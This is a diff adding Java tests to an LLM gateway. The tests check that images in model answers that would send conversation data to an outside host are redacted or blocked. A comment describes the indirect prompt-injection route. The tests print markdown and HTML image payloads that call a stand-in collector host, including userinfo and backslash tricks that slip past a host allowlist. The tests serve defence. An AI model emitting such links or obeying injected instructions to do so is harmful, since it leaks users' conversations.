@@ -43,12 +43,21 @@ class AnswerGatewayTest {
                     auth: { methods: [api_key] }
                     llm: chat
                     guard: pseudo
+                  - id: images
+                    match: { methods: [POST], path: /images/v1/chat/completions }
+                    strip_prefix: /images
+                    upstream: app
+                    auth: { methods: [api_key] }
+                    llm: chat
+                    guard: images
                 guard:
                   policies:
                     default:
                       pii: { default: redact }
                     pseudo:
                       pii: { default: pseudonymize }
+                    images:
+                      output: { remote_images: block, image_hosts: [cdn.example.com, "*.assets.example.org"] }
                 """));
         key = gw.createKey("acme", "invoke");
     }
@@ -212,6 +221,54 @@ class AnswerGatewayTest {
                         + event.formatted(AWS_KEY.substring(10) + ".") + chunk("Done.") + "data: [DONE]\n\n"));
         Streamed st = stream("/v1/chat/completions", chat("who?", true), new AtomicBoolean(true));
         assertThat(st.body()).doesNotContain("jane.do", AWS_KEY.substring(0, 10)).contains("secret_in_answer");
+    }
+
+    /**
+     * The exfiltration an indirect injection ends in: a poisoned page tells the model to append an image whose URL
+     * carries the conversation, and the chat interface fetches it as it renders the answer. By default the image is
+     * redacted, whole and streamed; a policy can block such answers and list the hosts its images come from.
+     */
+    @Test
+    void anImageThatWouldSendTheConversationElsewhereIsRedactedByDefault() throws Exception {
+        String exfil = "![loading](https://collector.example.net/log?d=Q3%20revenue%20was%2012.4M)";
+        answerWhole("Here is the summary. " + exfil + " Anything else?");
+        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("summarise the page", false));
+        assertThat(r.statusCode()).isEqualTo(200);
+        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
+                .isEqualTo("Here is the summary. [REMOTE_IMAGE] Anything else?");
+        String line = gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow());
+        assertThat(line).contains("\"guard_answer\":{\"action\":\"redact\",\"entities\":{\"REMOTE_IMAGE\":1}").doesNotContain("collector", "revenue");
+
+        AtomicBoolean ended = new AtomicBoolean();
+        List<String> pieces = new java.util.ArrayList<>(List.of("Here is the summary. ![load", "ing](https://coll", "ector.example.net/log?d=Q3%20rev",
+                "enue%20was%2012.4M) Anything else? ", "<img src=\"https://collector.example.net/p?d=", "more\"> done. "));
+        pieces.addAll(filler(6));
+        answerStreamed(pieces, 30, ended);
+        Streamed st = stream("/v1/chat/completions", chat("summarise the page", true), ended);
+        assertThat(StreamedAnswerTest.content(st.body())).isEqualTo("Here is the summary. [REMOTE_IMAGE] Anything else? [REMOTE_IMAGE] done. "
+                + String.join("", filler(6)));
+        assertThat(st.body()).doesNotContain("collector", "revenue");
+        assertThat(st.contentBeforeUpstreamEnded()).as("the rest of the answer still streams").isTrue();
+    }
+
+    @Test
+    void aPolicyCanBlockAnswersWithRemoteImagesAndListItsOwnHosts() throws Exception {
+        answerWhole("Your chart: ![chart](https://cdn.example.com/c.png) and ![icon](https://a.assets.example.org/i.svg) and ![local](/img/x.png)");
+        HttpResponse<String> ok = gw.postJson("/images/v1/chat/completions", key, chat("chart?", false));
+        assertThat(ok.statusCode()).isEqualTo(200);
+        assertThat(ok.body()).contains("https://cdn.example.com/c.png", "https://a.assets.example.org/i.svg", "/img/x.png");
+
+        // the listed host as user info, and a backslash a browser reads as a slash: both go to the collector
+        for (String image : List.of("![c](https://cdn.example.com@collector.example.net/?d=secret)", "<img src=\"https://collector.example.net\\@cdn.example.com/?d=secret\">")) {
+            answerWhole("Your chart: " + image);
+            HttpResponse<String> r = gw.postJson("/images/v1/chat/completions", key, chat("chart?", false));
+            assertThat(r.statusCode()).as(image).isEqualTo(502);
+            JsonObject err = new JsonObject(r.body()).getJsonObject("error");
+            assertThat(err.getString("code")).isEqualTo("remote_image_in_answer");
+            assertThat(err.getString("message")).contains("REMOTE_IMAGE");
+            assertThat(err.getString("request_id")).isEqualTo(r.headers().firstValue("X-Request-Id").orElseThrow());
+            assertThat(r.body()).doesNotContain("collector", "secret");
+        }
     }
 
     @Test
